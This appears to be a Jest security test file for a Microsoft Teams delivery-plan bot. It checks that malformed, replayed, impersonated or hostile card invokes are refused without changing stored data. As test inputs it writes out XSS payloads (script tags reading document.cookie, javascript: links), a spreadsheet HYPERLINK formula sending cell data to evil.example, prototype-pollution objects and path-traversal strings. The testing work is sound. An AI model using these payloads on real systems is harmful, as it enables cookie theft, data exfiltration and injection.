/**
 * Hostile card invokes at POST /api/messages (the real app, LOCAL_MODE so activities need no token):
 * wrong types, missing fields, unknown verbs and items, oversize notes and bodies, someone else's
 * item, replayed and stale cards. Each is answered with a card or error that says what is wrong, the
 * server stays up, and the store is unchanged. Script, markdown-link and formula payloads in a valid
 * answer are recorded as inert text and never become a link in a card or a formula in an export.
 */
import { recordActionFor, recordActions, slotInputs, type ExecuteAction } from '../bot/support/cardActions';
import { cardText } from '../bot/support/teamsStandIn';
import { expectValidCards } from '../support/validateCard';
import { BOT, ITEMS, PEOPLE, TENANT, send, startSecurityApp, type SecurityApp, type Who } from './support/securityApp';

let app: SecurityApp;
let seq = 0;

beforeAll(async () => {
  app = await startSecurityApp();
});
afterAll(async () => {
  await app?.close();
});

function activity(who: Who, value: unknown, name = 'adaptiveCard/action'): Record<string, unknown> {
  const p = PEOPLE[who];
  return {
    type: 'invoke',
    name,
    id: `in-${++seq}`,
    channelId: 'msteams',
    serviceUrl: app.teams.url,
    timestamp: app.clock.now().toISOString(),
    from: { id: p.id, aadObjectId: p.aadObjectId, name: p.name },
    recipient: BOT,
    conversation: { id: `a:${who}-1on1`, conversationType: 'personal', tenantId: TENANT },
    channelData: { tenant: { id: TENANT } },
    value,
  };
}

interface InvokeBody {
  statusCode: number;
  type: string;
  value: Record<string, unknown> & { code?: string; message?: string };
}

async function invoke(who: Who, value: unknown): Promise<{ status: number; body: InvokeBody; text: string }> {
  const res = await send(`${app.url}/api/messages`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(activity(who, value)),
  });
  return { status: res.status, body: res.body as InvokeBody, text: res.text };
}

const execute = (data: unknown, verb = 'recordStatus') => ({ action: { type: 'Action.Execute', verb, data }, trigger: 'manual' });

async function versionOf(key: string): Promise<string> {
  return (await app.store.getItem(app.planId, key))!.version;
}

/** The card data of a prompt for `key`, as the bot sends it, plus the answer's input values. */
async function card(key: string, values: Record<string, unknown> = {}): Promise<Record<string, unknown>> {
  return { planId: app.planId, itemKey: key, version: await versionOf(key), ...values };
}

type Expectation = { error: RegExp } | { refusal: RegExp; problem?: RegExp };
type InvokeCase = [name: string, who: Who, value: () => Promise<unknown>, expected: Expectation];

const INVALID = /Not recorded yet: please correct this/;
const FORBIDDEN = /Not recorded: you are not a lead for this item/;
const GONE = /This item is no longer in the plan, so nothing was recorded/;
const NO_FIELD = (fields: string) =>
  new RegExp(
    `^This card has no ${fields} \\(as text\\), so the bot cannot tell which item it is about: it is damaged or was not sent by the Delivery Plan bot\\. Report in the plan tab instead`,
  );

const cases: InvokeCase[] = [
  // Wrong types in the answer.
  [
    'rag as a number (5)',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 5, note: 'n' })),
    { refusal: INVALID, problem: /"5" is not a status: choose Red, Amber, Green or Complete/ },
  ],
  [
    'rag as a boolean',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: true })),
    { refusal: INVALID, problem: /Choose a status: Red, Amber, Green or Complete/ },
  ],
  [
    'rag as an object',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: { value: 'green' } })),
    { refusal: INVALID, problem: /Choose a status/ },
  ],
  [
    'rag "not-reported" (not reportable)',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'not-reported' })),
    { refusal: INVALID, problem: /"not-reported" is not a status/ },
  ],
  [
    'figure as words',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: 'about forty' })),
    { refusal: INVALID, problem: /"about forty" is not a number: give a figure of 0 or more/ },
  ],
  [
    'negative figure (string)',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: '-5' })),
    { refusal: INVALID, problem: /A figure cannot be negative \(-5\): give 0 or more/ },
  ],
  [
    'negative figure (number)',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: -5 })),
    { refusal: INVALID, problem: /A figure cannot be negative \(-5\)/ },
  ],
  [
    'figure "NaN"',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: 'NaN' })),
    { refusal: INVALID, problem: /"NaN" is not a number/ },
  ],
  [
    'figure "Infinity"',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: 'Infinity' })),
    { refusal: INVALID, problem: /"Infinity" is not a number/ },
  ],
  [
    'huge figure (1e12)',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: 1e12 })),
    { refusal: INVALID, problem: /1000000000000 is too large for "/ },
  ],
  [
    'figure in exponent notation (1e400)',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: '1e400' })),
    { refusal: INVALID, problem: /"1e400" is not a number/ },
  ],
  [
    'revised date not a date',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'red', note: 'Late', revisedDate: '31/12/2018' })),
    { refusal: INVALID, problem: /"31\/12\/2018" is not a date: use the date picker \(YYYY-MM-DD\)/ },
  ],
  [
    'revised date that does not exist (30 February)',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'red', note: 'Late', revisedDate: '2019-02-30' })),
    { refusal: INVALID, problem: /"2019-02-30" is not a date/ },
  ],
  [
    'revised date in the past',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'red', note: 'Late', revisedDate: '2018-01-31' })),
    { refusal: INVALID, problem: /The revised date \d{4}-\d{2}-\d{2} is in the past: give the date the item will now be delivered/ },
  ],
  [
    'Red without a note',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'red', note: '   ' })),
    { refusal: INVALID, problem: /A note is required for Red/ },
  ],
  [
    'note as an object instead of text, for Amber',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'amber', note: { text: 'x' } })),
    { refusal: INVALID, problem: /A note is required for Amber/ },
  ],
  [
    'oversize note (100,000 characters)',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green', note: 'y'.repeat(100_000) })),
    { refusal: INVALID, problem: /The note is 100,000 characters; the limit is 2,000/ },
  ],
  [
    'rag of 100,000 characters',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'r'.repeat(100_000) })),
    { refusal: INVALID, problem: /"r+…/ },
  ],
  [
    'figure of 100,000 characters',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: '9x'.repeat(50_000) })),
    { refusal: INVALID, problem: /"(9x)+9?…/ },
  ],
  [
    'a thousand extra fields on a card for a removed item',
    'ann',
    async () =>
      execute({
        ...(await card(ITEMS.ann)),
        itemKey: 'zz-00000000',
        rag: 'green',
        ...Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`extra_${i}`, 'x'.repeat(200)])),
      }),
    { refusal: GONE },
  ],
  [
    'a markdown link as the status',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: '[Click to confirm](javascript:alert(1))' })),
    { refusal: INVALID, problem: /is not a status/ },
  ],
  [
    'oversize note (2,001 characters)',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green', note: 'x'.repeat(2001) })),
    { refusal: INVALID, problem: /The note is 2,001 characters; the limit is 2,000/ },
  ],

  [
    'the status smuggled in through __proto__',
    'ann',
    async () =>
      JSON.parse(
        `{"action":{"type":"Action.Execute","verb":"recordStatus","data":{"planId":"${app.planId}","itemKey":"${ITEMS.ann}","version":"${await versionOf(ITEMS.ann)}","__proto__":{"rag":"complete","note":"inherited"}}}}`,
      ) as unknown,
    { refusal: INVALID, problem: /Choose a status: Red, Amber, Green or Complete/ },
  ],
  [
    'constructor.prototype in the card data',
    'ann',
    async () => execute(await card(ITEMS.ann, { constructor: { prototype: { rag: 'complete' } } })),
    { refusal: INVALID, problem: /Choose a status/ },
  ],
  // A card that is not one of ours, or has lost its identity.
  [
    'missing itemKey',
    'ann',
    async () => execute({ planId: app.planId, version: await versionOf(ITEMS.ann), rag: 'green' }),
    { error: NO_FIELD('itemKey') },
  ],
  [
    'missing planId',
    'ann',
    async () => execute({ itemKey: ITEMS.ann, version: await versionOf(ITEMS.ann), rag: 'green' }),
    { error: NO_FIELD('planId') },
  ],
  ['missing version', 'ann', async () => execute({ planId: app.planId, itemKey: ITEMS.ann, rag: 'green' }), { error: NO_FIELD('version') }],
  [
    'version as a number',
    'ann',
    async () => execute({ ...(await card(ITEMS.ann)), version: 7, rag: 'green' }),
    { error: NO_FIELD('version') },
  ],
  [
    'itemKey as an array',
    'ann',
    async () => execute({ ...(await card(ITEMS.ann)), itemKey: [ITEMS.ann], rag: 'green' }),
    { error: NO_FIELD('itemKey') },
  ],
  [
    'unknown verb',
    'ann',
    async () => execute(await card(ITEMS.ann, { rag: 'green' }), 'deleteEverything'),
    {
      error:
        /^"deleteEverything" is not something the Delivery Plan bot does \(it knows recordStatus, refreshPrompt, recordAll, refreshCard\)\./,
    },
  ],
  [
    'Action.Submit instead of Action.Execute',
    'ann',
    async () => ({ action: { type: 'Action.Submit', verb: 'recordStatus', data: await card(ITEMS.ann, { rag: 'green' }) } }),
    { error: /^This is not a Delivery Plan card button \(an Action\.Execute; this is "Action\.Submit"\)/ },
  ],
  [
    'data as an array',
    'ann',
    async () => execute([app.planId, ITEMS.ann, await versionOf(ITEMS.ann), 'green']),
    { error: NO_FIELD('planId, itemKey, version') },
  ],
  ['data null', 'ann', async () => execute(null), { error: NO_FIELD('planId, itemKey, version') }],
  ['data a string', 'ann', async () => execute('planId=x&itemKey=y'), { error: NO_FIELD('planId, itemKey, version') }],
  [
    'no action at all',
    'ann',
    async () => ({ trigger: 'manual' }),
    { error: /^This is not a Delivery Plan card button \(an Action\.Execute; this is no action at all\)/ },
  ],
  ['value null', 'ann', async () => null, { error: /no action at all/ }],
  ['unknown item', 'ann', async () => execute({ ...(await card(ITEMS.ann)), itemKey: 'zz-00000000', rag: 'green' }), { refusal: GONE }],
  ['unknown plan', 'ann', async () => execute({ ...(await card(ITEMS.ann)), planId: 'no-such-plan', rag: 'green' }), { refusal: GONE }],
  [
    'path traversal as the item key',
    'ann',
    async () => execute({ ...(await card(ITEMS.ann)), itemKey: '../../etc/passwd', rag: 'green' }),
    { refusal: GONE },
  ],
  [
    'refresh of an unknown item',
    'ann',
    async () => execute({ ...(await card(ITEMS.ann)), itemKey: 'zz-00000000' }, 'refreshPrompt'),
    { refusal: GONE },
  ],

  // Who is answering.
  [
    'a lead answering an item that is not theirs',
    'ann',
    async () => execute(await card(ITEMS.dan, { rag: 'green', note: 'Done, I think' })),
    { refusal: FORBIDDEN },
  ],
  [
    'a stranger (in no directory entry)',
    'stranger',
    async () => execute(await card(ITEMS.ann, { rag: 'complete' })),
    { refusal: FORBIDDEN },
  ],
  [
    "a stranger claiming a lead's name",
    'stranger',
    async () => execute(await card(ITEMS.ann, { rag: 'complete', by: 'Ann Lead', from: PEOPLE.ann })),
    { refusal: FORBIDDEN },
  ],

  // Cards from the past.
  [
    'a card with a made-up version',
    'ann',
    async () => execute({ ...(await card(ITEMS.ann)), version: 'v-from-the-future', rag: 'green' }),
    { refusal: /Not recorded: someone reported on this item after this card was sent/ },
  ],
];

describe('hostile card invokes are answered clearly and write nothing', () => {
  it.each(cases)('%s', async (_name, who, value, expected) => {
    const before = await app.snapshot();
    const res = await invoke(who, await value());
    expect(res.status).toBe(200);
    if ('error' in expected) {
      expect(res.body).toMatchObject({ statusCode: 400, type: 'application/vnd.microsoft.error', value: { code: 'BadRequest' } });
      expect(res.body.value.message).toMatch(expected.error);
    } else {
      expect(res.body).toMatchObject({ statusCode: 200, type: 'application/vnd.microsoft.card.adaptive' });
      const text = cardText(res.body.value);
      expect(text).toMatch(expected.refusal);
      if (expected.problem) expect(text).toMatch(expected.problem);
      for (const t of textBlocks(res.body.value)) for (const re of LINKISH) expect(t).not.toMatch(re);
      expectValidCards([res.body.value]);
    }
    await app.running.bot.idle();
    expect(({} as Record<string, unknown>).rag).toBeUndefined();
    expect(await app.healthy()).toBe(true);
    expect(await app.snapshot()).toBe(before);
  });
});

describe('replayed and stale cards', () => {
  it('records the first answer of a card once: the same card sent again adds no history row', async () => {
    const data = await card(ITEMS.bob, { rag: 'green', note: 'Training done', figure_0: 4 });
    const first = await invoke('bob', execute(data));
    expect(cardText(first.body.value)).toContain('Recorded: Green');
    const after = await app.snapshot();
    const rows = (await app.store.history(app.planId, ITEMS.bob)).length;
    expect(rows).toBe(1);
    const replay = await invoke('bob', execute(data));
    expect(replay.body.statusCode).toBe(200);
    expect(cardText(replay.body.value)).toMatch(/Not recorded: someone reported on this item after this card was sent/);
    expect(cardText(replay.body.value)).toContain('Training done');
    expect(await app.healthy()).toBe(true);
    expect(await app.snapshot()).toBe(after);
  });

  it('refuses a stale card answered after someone else, and keeps what was typed', async () => {
    const staleCopy = await card(ITEMS.ann, { rag: 'amber', note: 'Venue not booked yet' });
    const coordinator = await invoke('cora', execute(await card(ITEMS.ann, { rag: 'green', note: 'Both roundtables booked' })));
    expect(cardText(coordinator.body.value)).toContain('Recorded: Green');
    const after = await app.snapshot();
    const stale = await invoke('ann', execute(staleCopy));
    const text = cardText(stale.body.value);
    expect(text).toMatch(/Not recorded: someone reported on this item after this card was sent/);
    expect(text).toContain('reported by Cora Coordinator');
    expect(text).toContain('Venue not booked yet');
    expect(await app.snapshot()).toBe(after);
  });
});

type BodyCase = [name: string, contentType: string, body: () => string, status: number, message: RegExp];

const bodies: BodyCase[] = [
  [
    'a 5 MB activity',
    'application/json',
    () =>
      JSON.stringify(
        activity('ann', execute({ planId: app.planId, itemKey: ITEMS.ann, version: 'x', rag: 'green', note: 'z'.repeat(5 * 1024 * 1024) })),
      ),
    413,
    /The activity is larger than 256kb/,
  ],
  ['a body that is not JSON', 'application/json', () => '{"type":"invoke","value":', 400, /The body is not valid JSON/],
  [
    'an activity sent as text/plain',
    'text/plain',
    () => JSON.stringify(activity('ann', execute({}))),
    415,
    /Send the activity as JSON \(Content-Type: application\/json\)/,
  ],
  ['a JSON array', 'application/json', () => '[]', 400, /expected a JSON object/],
  ['JSON null', 'application/json', () => 'null', 400, /not valid JSON|expected a JSON object/],
  ['an empty object', 'application/json', () => '{}', 400, /The activity has no type, serviceUrl, from.id, recipient.id, conversation.id/],
  [
    'an invoke with no conversation',
    'application/json',
    () => JSON.stringify({ ...activity('ann', execute({})), conversation: undefined }),
    400,
    /The activity has no conversation.id/,
  ],
  [
    'a message whose text is a number',
    'application/json',
    () => JSON.stringify({ ...activity('ann', undefined), type: 'message', text: 123 }),
    400,
    /^The activity is not one Teams would send: text is not text$/,
  ],
  [
    'a message whose text is an object',
    'application/json',
    () => JSON.stringify({ ...activity('ann', undefined), type: 'message', text: { $gt: '' } }),
    400,
    /text is not text/,
  ],
  [
    'membersAdded as a string',
    'application/json',
    () => JSON.stringify({ ...activity('ann', undefined), type: 'conversationUpdate', membersAdded: BOT.id }),
    400,
    /membersAdded is not a list of members with ids/,
  ],
  [
    'membersAdded holding null',
    'application/json',
    () => JSON.stringify({ ...activity('ann', undefined), type: 'conversationUpdate', membersAdded: [null] }),
    400,
    /membersAdded is not a list of members with ids/,
  ],
  [
    'an install whose action is a number',
    'application/json',
    () => JSON.stringify({ ...activity('ann', undefined), type: 'installationUpdate', action: 5 }),
    400,
    /action is not text/,
  ],
  [
    'a sender name that is an object',
    'application/json',
    () =>
      JSON.stringify({
        ...activity('ann', undefined),
        type: 'message',
        text: 'my actions',
        from: { id: PEOPLE.ann.id, name: { first: 'Ann' } },
      }),
    400,
    /from\.name is not text/,
  ],
  [
    'a serviceUrl that is not an address',
    'application/json',
    () => JSON.stringify({ ...activity('ann', undefined), type: 'message', text: 'help', serviceUrl: 'not a url' }),
    400,
    /serviceUrl is not an http\(s\) address/,
  ],
  [
    'a file: serviceUrl',
    'application/json',
    () => JSON.stringify({ ...activity('ann', undefined), type: 'message', text: 'help', serviceUrl: 'file:///etc/passwd' }),
    400,
    /serviceUrl is not an http\(s\) address/,
  ],
  [
    'an invoke whose from is a string',
    'application/json',
    () => JSON.stringify({ ...activity('ann', execute({})), from: '29:ann' }),
    400,
    /The activity has no from.id/,
  ],
];

describe('bodies that are not activities get a JSON refusal, not a stack trace or a 500', () => {
  it.each(bodies)('%s', async (_name, contentType, body, status, message) => {
    const before = await app.snapshot();
    const res = await send(`${app.url}/api/messages`, { method: 'POST', headers: { 'content-type': contentType }, body: body() });
    expect(res.status).toBe(status);
    expect(res.body).toEqual({ error: 'invalid', message: expect.stringMatching(message) });
    expect(res.text).not.toMatch(/node_modules|at .*\.js:\d+/);
    expect(await app.healthy()).toBe(true);
    expect(await app.snapshot()).toBe(before);
  });
});

/** Every way a TextBlock's markdown could turn text into a link. */
const LINKISH = [/\]\(/, /^\s{0,3}\[[^\]]+\]:\s*\S/m, /<[a-z][a-z0-9+.-]*:[^>\s]*>/i];

const PAYLOADS: Array<[name: string, note: string]> = [
  ['a script tag', '<script>alert(document.cookie)</script> Venue booked'],
  ['an inline javascript: markdown link', 'See [the plan](javascript:alert(1)) for details'],
  ['a javascript: link with spaces and case', 'See [x]( JavaScript:alert(1) ) now'],
  ['a reference-style javascript: link', 'See [the plan][1]\n\n[1]: javascript:alert(1)'],
  ['an autolink to javascript:', 'Go to <javascript:alert(1)> now'],
  ['a spreadsheet formula', '=HYPERLINK("http://evil.example/?"&A1,"Click for the update")'],
  ['an image with an onerror handler', '<img src=x onerror=alert(1)> done'],
];

describe('script, link and formula payloads in a valid answer are inert text', () => {
  it.each(PAYLOADS)('%s is recorded verbatim and shown without a link', async (_name, note) => {
    const before = (await app.store.history(app.planId)).length;
    const res = await invoke('dan', execute(await card(ITEMS.dan, { rag: 'amber', note })));
    expect(res.body.statusCode).toBe(200);
    const receipt = res.body.value;
    expect(cardText(receipt)).toContain('Recorded: Amber');
    const history = await app.store.history(app.planId, ITEMS.dan);
    expect(history.at(-1)).toMatchObject({ to: 'amber', note });
    expect((await app.store.history(app.planId)).length).toBe(before + 1);
    // Every TextBlock of the receipt, and of the prompt the next person sees, is free of link syntax.
    const refreshed = await invoke('dan', execute(await card(ITEMS.dan), 'refreshPrompt'));
    for (const c of [receipt, refreshed.body.value]) {
      const blocks = textBlocks(c);
      const noteBlock = blocks.find((t) => t.includes('alert') || t.includes('HYPERLINK'));
      expect(noteBlock).toBeDefined();
      for (const t of blocks) for (const re of LINKISH) expect(t).not.toMatch(re);
      expect(JSON.stringify(c)).not.toMatch(/"url":\s*"javascript:/i);
    }
    expectValidCards([receipt, refreshed.body.value]);
    expect(await app.healthy()).toBe(true);
  });
});

function textBlocks(card: unknown): string[] {
  const out: string[] = [];
  const walk = (x: unknown) => {
    if (Array.isArray(x)) x.forEach(walk);
    else if (x && typeof x === 'object') {
      const o = x as Record<string, unknown>;
      if (o.type === 'TextBlock' && typeof o.text === 'string') out.push(o.text);
      if (o.type === 'FactSet' && Array.isArray(o.facts))
        for (const f of o.facts as Array<{ value?: unknown }>) if (typeof f.value === 'string') out.push(f.value);
      Object.values(o).forEach(walk);
    }
  };
  walk(card);
  return out;
}

describe('real prompt cards, replayed and made stale', () => {
  /** Ann's prompt cards as the bot sent them to the stand-in: item key → the recordStatus action data. */
  const annCards = new Map<string, Record<string, unknown>>();

  beforeAll(async () => {
    for (const who of ['ann', 'bob', 'dan', 'cora'] as Who[]) {
      const res = await send(`${app.url}/api/messages`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ ...activity(who, undefined), type: 'installationUpdate', action: 'add', name: undefined }),
      });
      expect(res.status).toBe(200);
    }
    await app.running.bot.idle();
    // The daily run of Sunday 16 September: the Q2 check-in (Ann answers for the Prevent Co-ordinator's
    // items and the commissioned projects), 14 days before the 30 September milestones. Items reported
    // earlier in this file are not asked again.
    await app.running.bot.runPrompts('2018-09-16');
    // Ann's one card of the day: each item's Record button carries its own data.
    for (const call of app.teams.sends('a:ann-1on1')) {
      const content = (call.body as { attachments?: Array<{ content: unknown }> }).attachments?.[0]?.content;
      for (const button of recordActions(content)) annCards.set(button.data.itemKey as string, button.data);
    }
    expect(annCards.size).toBeGreaterThanOrEqual(2);
  });

  it('records an answer once: the same invoke replayed adds no history row', async () => {
    const data = annCards.get('a4-87ad2bfc')!;
    expect(data).toMatchObject({ planId: app.planId, itemKey: 'a4-87ad2bfc', content: expect.any(String) });
    const answer = withValues(data, { rag: 'amber', note: 'Dashboard data late from the police' });
    const first = await invoke('ann', execute(answer));
    expect(cardText(first.body.value)).toContain('Recorded: Amber');
    await app.running.bot.idle();
    const after = await app.snapshot();
    for (let i = 0; i < 3; i++) {
      const replay = await invoke('ann', execute(answer));
      expect(replay.status).toBe(200);
      expect(replay.body.statusCode).toBe(200);
      expect(cardText(replay.body.value)).toMatch(/Recorded: Amber|Not recorded/);
      await app.running.bot.idle();
      expect(await app.snapshot()).toBe(after);
    }
    expect(
      (await app.store.history(app.planId, 'a4-87ad2bfc')).filter((u) => u.note === 'Dashboard data late from the police'),
    ).toHaveLength(1);
    expect(await app.healthy()).toBe(true);
  });

  it('records a card replayed five times at once (a retrying client) exactly once', async () => {
    const data = annCards.get('a2-97caae44') ?? [...annCards.values()].find((d) => d.itemKey !== 'a4-87ad2bfc')!;
    const key = data.itemKey as string;
    const rows = (await app.store.history(app.planId, key)).length;
    // Later than the report the card shows (the fixed clock would otherwise stamp both alike).
    app.clock.set('2018-09-03T09:05:00Z');
    const answer = {
      ...withValues(data, { rag: 'green', note: 'Replayed five times' }),
      version: await versionOf(key),
      seen: (await app.store.getItem(app.planId, key))!.lastUpdate?.at ?? '',
    };
    const results = await Promise.all(Array.from({ length: 5 }, () => invoke('ann', execute(answer))));
    for (const r of results) expect(r.body.statusCode).toBe(200);
    await app.running.bot.idle();
    const history = await app.store.history(app.planId, key);
    expect(history).toHaveLength(rows + 1);
    expect(history.filter((u) => u.note === 'Replayed five times')).toHaveLength(1);
    expect(await app.healthy()).toBe(true);
  });

  it('refuses a card for an item the co-ordinator has since changed, keeping what was typed', async () => {
    const [key, data] = [...annCards].find(([k]) => k !== 'a4-87ad2bfc')!;
    const edit = await send(`${app.url}/api/plans/${app.planId}/items/${key}`, {
      method: 'PATCH',
      headers: { 'content-type': 'application/json', 'x-dev-user': PEOPLE.cora.email, 'if-match': `"${await versionOf(key)}"` },
      body: JSON.stringify({ milestones: ['2018-10-31'] }),
    });
    expect(edit.status).toBe(200);
    const before = await app.snapshot();
    const res = await invoke('ann', execute(withValues(data, { rag: 'green', note: 'On track for September' })));
    const text = cardText(res.body.value);
    expect(text).toMatch(/Not recorded: this item was changed in the plan after this card was sent/);
    expect(text).toContain('On track for September');
    expectValidCards([res.body.value]);
    expect(await app.healthy()).toBe(true);
    expect(await app.snapshot()).toBe(before);
  });

  it("refuses Ann's card answered by someone who does not lead the item", async () => {
    const data = annCards.get('a4-87ad2bfc')!;
    const before = await app.snapshot();
    const res = await invoke(
      'dan',
      execute({ ...withValues(data, { rag: 'complete', note: 'Closing this' }), version: await versionOf('a4-87ad2bfc') }),
    );
    expect(cardText(res.body.value)).toMatch(FORBIDDEN);
    // What Dan typed is kept to pass on, with no button to record it.
    expect(cardText(res.body.value)).toContain('Closing this');
    expect(recordActionFor(res.body.value, 'a4-87ad2bfc')).toBeUndefined();
    expect(await app.snapshot()).toBe(before);
  });
});

/** A card item's data with values in its inputs, as Teams sends them (named with the item's slot). */
function withValues(data: Record<string, unknown>, values: Record<string, unknown>): Record<string, unknown> {
  return { ...data, ...slotInputs({ data } as ExecuteAction, values) };
}

describe('hostile text in 1:1 messages and in plan text', () => {
  async function message(who: Who, text: string): Promise<Record<string, unknown>> {
    const before = app.teams.sends(`a:${who}-1on1`).length;
    const res = await send(`${app.url}/api/messages`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ ...activity(who, undefined), type: 'message', text, name: undefined }),
    });
    expect(res.status).toBe(200);
    await app.running.bot.idle();
    const sent = app.teams.sends(`a:${who}-1on1`).slice(before);
    expect(sent).toHaveLength(1);
    return (sent[0]!.body as { attachments: Array<{ content: Record<string, unknown> }> }).attachments[0]!.content;
  }

  it.each([
    ['a markdown javascript: link', 'status [the plan](javascript:alert(1))', /items match/],
    ['a reference definition', 'status x\n[1]: javascript:alert(1)', /items match/],
    ['an autolink', 'status <javascript:alert(1)>', /items match/],
    ['a 100,000-character query', `status ${'q'.repeat(100_000)}`, /items match "q+…"/],
  ])('"status" with %s answers with a valid card and no link', async (_name, text, says) => {
    const before = await app.snapshot();
    const reply = await message('ann', text);
    expect(cardText(reply)).toMatch(says);
    for (const t of textBlocks(reply)) for (const re of LINKISH) expect(t).not.toMatch(re);
    expectValidCards([reply]);
    expect(await app.healthy()).toBe(true);
    expect(await app.snapshot()).toBe(before);
  });

  it('shows an item title a co-ordinator typed as a link as text, in the status card', async () => {
    const title = '[Urgent: confirm here](javascript:alert(document.cookie)) Prevent Champions';
    const edit = await send(`${app.url}/api/plans/${app.planId}/items/a4-a812575f`, {
      method: 'PATCH',
      headers: { 'content-type': 'application/json', 'x-dev-user': PEOPLE.cora.email, 'if-match': `"${await versionOf('a4-a812575f')}"` },
      body: JSON.stringify({ title }),
    });
    expect(edit.status).toBe(200);
    const reply = await message('ann', 'status a4-a812575f');
    expect(cardText(reply)).toContain('Urgent: confirm here');
    for (const t of textBlocks(reply)) for (const re of LINKISH) expect(t).not.toMatch(re);
    expectValidCards([reply]);
  });
});
